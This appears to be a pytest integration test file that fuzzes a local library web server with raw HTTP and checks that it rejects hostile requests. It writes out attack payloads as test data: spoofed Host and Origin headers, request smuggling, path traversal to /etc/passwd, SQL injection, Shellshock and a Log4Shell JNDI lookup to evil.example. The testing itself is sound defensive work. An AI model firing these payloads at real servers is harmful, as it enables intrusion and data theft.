"""`carrel serve` as a process, and whoever writes to its socket what no browser would."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from carrel.systems.sample import Sample
from tests.integration.conftest import Koha
from tests.integration.run.library import environment
from tests.integration.web.conftest import PASSWORD, give_password, pages_of

pytestmark = pytest.mark.xdist_group("wire of the pages")  # one process opens what they share


@dataclass
class Served:
    """The process, and a patron's card."""

    port: int
    card: str
    process: subprocess.Popen[str]

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def said(self, request: bytes, patience: float = 0.6) -> bytes:
        """Everything that comes back until the connection is closed, or nothing comes for so many seconds."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as line:
            line.settimeout(patience)
            back = b""
            try:
                line.sendall(request)
                while got := line.recv(65_536):
                    back += got
            except (TimeoutError, ConnectionError):
                pass
            return back

    def asked(self, first: str, *headers: str, body: bytes = b"", host: bool = True) -> int:
        """The status of one request that is spelled out; 0 where the line was cut without a word."""
        lines = [first, *([f"Host: 127.0.0.1:{self.port}"] if host else []), *headers, "Connection: close"]
        if body:
            lines.append(f"Content-Length: {len(body)}")
        text = "\r\n".join(lines) + "\r\n\r\n"
        back = self.said(text.encode("utf-8", "surrogateescape") + body, patience=30)  # the first one opens a system
        return int(back.split(b" ", 2)[1]) if back.startswith(b"HTTP/1.1 ") else 0


@pytest.fixture(scope="module")
def served(_sqlite_template: tuple[Path, Sample], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("wire")
    shutil.copyfile(_sqlite_template[0], folder / "koha.db")
    koha = Koha(f"sqlite:///{folder / 'koha.db'}", "sqlite", _sqlite_template[1])
    card = give_password(koha, 0)
    koha.dispose()
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    with pages_of(folder, koha.url, "koha", address=f"http://127.0.0.1:{port}"):
        pass
    process = subprocess.Popen(
        [sys.executable, "-m", "carrel", "serve", "--port", str(port), "--site", str(folder)],
        env={**environment(None), "PYTHONPATH": os.environ.get("PYTHONPATH", "")}, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert process.stderr is not None
        assert "listening" in process.stderr.readline()
        yield Served(port, card, process)
    finally:
        process.send_signal(signal.SIGTERM)
        rest = process.communicate(timeout=30)[1]
    assert rest == "", "nothing is told of who asked for what, nor of what they sent"


FORM = "Content-Type: application/x-www-form-urlencoded"


def sign_in(served: Served, name: str, *headers: str, password: str = PASSWORD) -> int:
    from urllib.parse import urlencode

    body = urlencode({"name": name, "password": password}).encode()
    return served.asked("POST /en/sign-in HTTP/1.1", FORM, *headers, body=body)


def test_only_our_host_and_our_origin_whatever_else_is_said(served: Served) -> None:
    own, port = f"Origin: {served.address}", served.port
    assert sign_in(served, served.card, own) == 303, "what the others are compared with"
    for host, meant in (
        ("evil.example", {421}), (f"evil.example:{port}", {421}), (f"127.0.0.1:{port}.evil.example", {421}), ("", {400, 421}),
        (f"127.0.0.1:{port}@evil.example", {421}), (f"127.0.0.1:{port}, evil.example", {421}), ("\u0661", {400, 421}),
        (f"127.0.0.1:{port}\r\nHost: evil.example", {400}), (f"evil.example\r\nHost: 127.0.0.1:{port}", {400}),
        (f"evil.example\r\nX-Forwarded-Host: 127.0.0.1:{port}", {421}), ("127.0.0.1", {421}), ("x" * 9_000, {421, 431}),
    ):  # fmt: skip
        assert served.asked("GET /en/ HTTP/1.1", f"Host: {host}", host=False) in meant, host[:60]
    assert served.asked("GET /en/ HTTP/1.1", host=False) == 400
    assert served.asked("GET /en/ HTTP/1.0", host=False) in {400, 421}
    assert served.asked("GET http://evil.example/en/ HTTP/1.1") in {400, 404}
    for several in (
        ["Origin: https://evil.example", own], [own, "Origin: https://evil.example"], [own, own], ["Origin:", own],
        [own, "Sec-Fetch-Site: cross-site"], ["Sec-Fetch-Site: same-origin", "Sec-Fetch-Site: cross-site"],
        ["Sec-Fetch-Site: same-origin", "Origin: https://evil.example"], [own + ", https://evil.example"],
        [own + "/"], [own + " "  + "x"], ["Origin: \u0430"], [f"X-Origin: {served.address}"], [f"Referer: {served.address}/en/"],
    ):  # fmt: skip
        assert sign_in(served, served.card, *several) == 403, several


def test_nobody_gets_more_tries_by_saying_whom_the_request_is_for(served: Served) -> None:
    """Without `--behind` no header tells where a request comes from."""
    own = f"Origin: {served.address}"
    answers = [
        sign_in(served, f"nobody-{n}", own, f"X-Forwarded-For: 192.0.2.{n}", f"X-Real-IP: 192.0.2.{n}",
                f"Forwarded: for=192.0.2.{n}", f"Client-IP: 192.0.2.{n}", "X-Forwarded-Proto: https", password="x")
        for n in range(62)
    ]  # fmt: skip
    assert set(answers[:50]) == {401}
    assert answers[-1] == 429


def test_what_is_no_request_ends_the_line_and_nothing_else(served: Served) -> None:
    port = served.port
    host = f"Host: 127.0.0.1:{port}\r\n"
    head = f"POST /en/sign-in HTTP/1.1\r\n{host}Origin: {served.address}\r\n{FORM}\r\n"
    for torn in (
        b"\0" * 400, b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"\x16\x03\x01\x02\x00", b"GET /\0 HTTP/1.1\r\n" + host.encode() + b"\r\n",
        f"GET / HTTP/1.1\r\n{host}X: a\0b\r\n\r\n".encode(), f"GET / HTTP/1.1\r\n{host}X : a\r\n\r\n".encode(),
        f"GET / HTTP/1.1\r\n{host} folded: a\r\n\r\n".encode(), f"GET / HTTP/1.1\r\n{host}{'X: ' + 'a' * 70_000}\r\n\r\n".encode(),
        f"GET / HTTP/1.1\r\n{host}{'X: a' * 1}\r\n".encode() + b"X: a\r\n" * 20_000 + b"\r\n",
        f"{head}Content-Length: -1\r\n\r\n".encode(), f"{head}Content-Length: 1\r\nContent-Length: 2\r\n\r\nab".encode(),
        f"{head}Content-Length: 1e3\r\n\r\na".encode(), f"{head}Transfer-Encoding: chunked\r\n\r\nzz\r\n".encode(),
        f"{head}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n".encode(), f"{head}Transfer-Encoding: identity\r\n\r\n".encode(),
    ):  # fmt: skip
        back = served.said(torn)
        assert b"HTTP/1.1 2" not in back, torn[:60]
        assert b"HTTP/1.1 500" not in back, torn[:60]
        assert b"Traceback" not in back
    # Two lengths: whoever reads one of them sees one request, and must not see another in its body.
    inner = f"GET /healthz HTTP/1.1\r\n{host}\r\n".encode()
    chunks = b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"
    back = served.said(f"{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n".encode() + chunks)
    assert b'"state"' not in back
    assert served.asked("GET /healthz HTTP/1.1") == 200


def test_no_address_leads_out_of_its_folder(served: Served) -> None:
    for path in ("/static/../premises.py", "/static/..%2fpremises.py", "/static/%2e%2e/premises.py", "/static//etc/passwd",
                 "/static/..%5c..%5cpremises.py", "/static/%00", "/static/carrel.css%00.py", "/static/", "/static/.", "/%2e%2e/etc/passwd",
                 "/en/../../etc/passwd", "/en/%2e%2e/me", "/en/me/../../api", "/en/me;/", "/EN/me", "/en/me/data/"):  # fmt: skip
        back = served.said(
            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nConnection: close\r\n\r\n".encode()
        )
        assert back.startswith((b"HTTP/1.1 404", b"HTTP/1.1 405", b"HTTP/1.1 400")), path
        assert b"import" not in back
        assert b"root:" not in back


def test_cookies_of_any_kind_are_nobody(served: Served) -> None:
    for cookie in ("carrel=", "carrel=" + "A" * 43, "carrel=" + "A" * 8_000, "carrel=\u00e9", 'carrel="a;b"', "carrel",
                   "; ".join(f"carrel={n:043d}" for n in range(200)), "carrel=A" * 500, "carrel=%00", "__Host-carrel=" + "A" * 43,
                   "=;;;==", "carrel[]=x", "carrel=' OR 1=1 --", "Carrel=" + "A" * 43):  # fmt: skip
        assert served.asked("GET /en/me HTTP/1.1", f"Cookie: {cookie}") == 303, cookie[:40]


def test_every_word_of_any_header_is_only_a_word(served: Served) -> None:
    for name in ("Accept-Language", "Accept", "User-Agent", "Sec-GPC", "If-Modified-Since", "If-None-Match", "Range", "Expect",
                 "Content-Type", "Accept-Encoding", "Authorization", "Content-Encoding", "Upgrade", "Cookie"):  # fmt: skip
        for value in ("x" * 8_000, "\u00ff\u0101", "en;q=" + "9" * 400, ",".join(["*"] * 2_000), "bytes=0-0,-1," * 300, "NaN",
                      "Thu, 99 Foo 0000 99:99:99 GMT", "() { :; }; echo x", "${jndi:ldap://evil.example}"):  # fmt: skip
            for path in ("/", "/static/carrel.css", "/en/sign-in"):
                status = served.asked(f"GET {path} HTTP/1.1", f"{name}: {value}")
                assert status in {200, 206, 303, 400, 416, 417, 426}, (name, value[:20], path, status)


@pytest.mark.slow
def test_the_api_does_what_its_description_says(served: Served) -> None:
    """Schemathesis: what the description allows and what it does not, in every way that it knows, with every check."""
    done = subprocess.run(
        [sys.executable, "-W", "ignore", "-m", "schemathesis.cli", "run", f"{served.address}/api/openapi.json",
         "--checks", "all", "--max-examples", "60", "--seed", "20261127", "--generation-deterministic", "--no-color",
         "--continue-on-failure", "--header", f"Origin:{served.address}"],
        capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout[-6_000:] + done.stderr[-1_000:]
    assert "No issues found" in done.stdout
